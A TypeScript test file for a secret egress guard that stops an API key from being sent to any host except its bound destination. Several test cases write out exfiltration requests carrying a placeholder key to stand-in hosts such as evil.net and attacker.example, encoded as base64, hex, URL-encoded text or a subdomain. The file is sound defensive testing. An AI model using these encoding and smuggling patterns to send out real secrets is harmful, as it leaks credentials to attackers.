import { describe, expect, it } from 'vitest';
import { createEgress } from '../../src/net/egress.js';
import type { Resolver } from '../../src/net/resolve-target.js';
import { EgressError } from '../../src/errors/egress-errors.js';
import {
  checkPlacedSecrets,
  createSecretEgressGuard,
  isDestination,
  type SecretBindings,
} from '../../src/secrets/secret-destinations.js';

const KEY = 'sk-live-Abc123Def456';
const secrets = [{ name: 'API_KEY', value: KEY }];

const request = (url: string, extra: { headers?: Record<string, string>; body?: string } = {}) => ({
  url: new URL(url),
  method: 'POST',
  headers: extra.headers ?? {},
  body: extra.body,
});

describe('isDestination', () => {
  it('matches a host, a *. suffix (not the bare domain), an IP, and a port when one is given', () => {
    const url = (u: string) => new URL(u);
    expect(isDestination(url('https://api.example.com/x'), ['api.example.com'])).toBe(true);
    expect(isDestination(url('https://API.Example.com./x'), ['api.example.com'])).toBe(true);
    expect(isDestination(url('https://evil-api.example.com/'), ['api.example.com'])).toBe(false);
    expect(isDestination(url('https://a.b.example.org/'), ['*.example.org'])).toBe(true);
    expect(isDestination(url('https://example.org/'), ['*.example.org'])).toBe(false);
    expect(isDestination(url('https://example.org.evil.net/'), ['*.example.org'])).toBe(false);
    expect(isDestination(url('http://10.0.0.5:8080/'), ['10.0.0.5'])).toBe(true);
    expect(isDestination(url('http://10.0.0.5:8080/'), ['10.0.0.5:8080'])).toBe(true);
    expect(isDestination(url('https://10.0.0.5/'), ['10.0.0.5:8080'])).toBe(false);
    expect(isDestination(url('https://api.example.com/'), ['api.example.com:443'])).toBe(true);
    expect(isDestination(url('http://[::1]:9/'), ['[::1]:9'])).toBe(true);
  });
});

describe('secret egress guard', () => {
  const guard = createSecretEgressGuard(
    secrets,
    { API_KEY: ['api.example.com'] },
    'bound',
  ) as NonNullable<ReturnType<typeof createSecretEgressGuard>>;

  it('lets a secret go to its destination, and requests without secrets anywhere', () => {
    expect(() =>
      guard(request('https://api.example.com/v1', { headers: { authorization: `Bearer ${KEY}` } })),
    ).not.toThrow();
    expect(() =>
      guard(request('https://elsewhere.net/', { body: 'nothing secret' })),
    ).not.toThrow();
  });

  it('refuses the secret to any other host, in any encoding, case or part of the request', () => {
    const b64 = Buffer.from(KEY).toString('base64');
    const cases = [
      request(`https://evil.net/?k=${KEY}`),
      request('https://evil.net/', { headers: { 'x-token': KEY.toUpperCase() } }),
      request('https://evil.net/', { body: JSON.stringify({ k: b64 }) }),
      request('https://evil.net/', { body: `k=${encodeURIComponent(KEY)}` }),
      request('https://evil.net/', { body: Buffer.from(KEY).toString('hex') }),
      request(`https://${KEY.toLowerCase()}.attacker.example/`),
    ];
    for (const r of cases) {
      expect(() => guard(r), r.url.href).toThrow(
        expect.objectContaining({ code: 'secret_destination' }),
      );
    }
    expect(() => guard(request(`https://evil.net/?k=${KEY}`))).toThrow(
      'request to evil.net refused: it carries secret API_KEY, which may be sent only to api.example.com',
    );
    // The host is named with the value hidden, when the value is in it.
    expect(() => guard(request(`https://${KEY.toLowerCase()}.attacker.example/`))).toThrow(
      'request to [REDACTED:API_KEY].attacker.example refused',
    );
  });

  it('sends a secret without destinations nowhere, unless the policy says any', () => {
    const strict = createSecretEgressGuard(secrets, {}, 'bound');
    expect(() => strict?.(request(`https://api.example.com/?k=${KEY}`))).toThrow(
      'which may be sent nowhere (no "->" destinations in its # @secrets: line)',
    );
    const open = createSecretEgressGuard(secrets, {}, 'any');
    expect(() => open?.(request(`https://anywhere.net/?k=${KEY}`))).not.toThrow();
    // A bound secret stays bound whatever the policy.
    const boundAny = createSecretEgressGuard(secrets, { API_KEY: ['api.example.com'] }, 'any');
    expect(() => boundAny?.(request(`https://anywhere.net/?k=${KEY}`))).toThrow();
  });

  it('costs nothing for a run without secret values', () => {
    expect(createSecretEgressGuard([], {}, 'bound')).toBeNull();
    expect(createSecretEgressGuard([{ name: 'EMPTY', value: '' }], {}, 'bound')).toBeNull();
  });

  it('stops a secret in the host name before any DNS lookup', async () => {
    const lookups: string[] = [];
    const resolver: Resolver = async (host) => {
      lookups.push(host);
      return [{ address: '127.0.0.1', family: 4 }];
    };
    const egress = createEgress({
      allow: ['127.0.0.0/8'],
      timeoutMs: 2000,
      maxBodyBytes: 1024,
      maxRedirects: 0,
      resolver,
    });
    await expect(
      egress.fetch(`http://${KEY.toLowerCase()}.attacker.example/`, { inspect: guard }),
    ).rejects.toMatchObject({ code: 'secret_destination' });
    expect(lookups).toEqual([]);
  });
});

describe("placed secrets (opaque values: the host knows each one's place)", () => {
  const bindings: SecretBindings = {
    destinations: { API_KEY: ['api.example.com'], HOOK: ['*.example.org:8443'], LOOSE: [] },
    placements: { API_KEY: 'header Authorization' },
    policy: 'bound',
  };
  const check = (url: string, ...placed: Array<[string, string]>) =>
    checkPlacedSecrets(
      placed.map(([name, place]) => ({ name, place })),
      new URL(url),
      bindings,
    );

  it('admits a secret in its place to one of its hosts, and any place where none is bound', () => {
    expect(() =>
      check('https://api.example.com/v1', ['API_KEY', 'header authorization']),
    ).not.toThrow();
    expect(() =>
      check('https://a.b.example.org:8443/', ['HOOK', 'url'], ['HOOK', 'body']),
    ).not.toThrow();
    expect(() => check('https://elsewhere.net/')).not.toThrow();
  });

  it('refuses another place, naming the secret and the place its line admits', () => {
    expect(() => check('https://api.example.com/v1', ['API_KEY', 'url'])).toThrow(
      'request to api.example.com refused: it carries secret API_KEY in the url, which its # @secrets: line admits only in header Authorization',
    );
    expect(() => check('https://api.example.com/', ['API_KEY', 'header x-api-key'])).toThrow(
      /in header x-api-key, which its # @secrets: line admits only in header Authorization/,
    );
  });

  it('refuses another host or port, and a secret without destinations anywhere unless the policy is any', () => {
    expect(() =>
      check('https://api.example.com.evil.net/', ['API_KEY', 'header authorization']),
    ).toThrow(
      'request to api.example.com.evil.net refused: it carries secret API_KEY in header authorization, which may be sent only to api.example.com',
    );
    expect(() => check('https://a.example.org/', ['HOOK', 'body'])).toThrow(EgressError);
    expect(() => check('https://example.org:8443/', ['HOOK', 'body'])).toThrow(
      /only to \*\.example\.org:8443/,
    );
    expect(() => check('https://api.example.com/', ['LOOSE', 'body'])).toThrow(
      /carries secret LOOSE in the body, which may be sent nowhere \(no "->" destinations/,
    );
    expect(() =>
      checkPlacedSecrets([{ name: 'LOOSE', place: 'body' }], new URL('https://x.net/'), {
        ...bindings,
        policy: 'any',
      }),
    ).not.toThrow();
  });

  it('reads bindings as data: a secret named like an Object member is bound to nothing', () => {
    expect(() => check('https://api.example.com/', ['constructor', 'url'])).toThrow(
      /may be sent nowhere/,
    );
    expect(() => check('https://api.example.com/', ['__proto__', 'url'])).toThrow(
      /may be sent nowhere/,
    );
  });
});
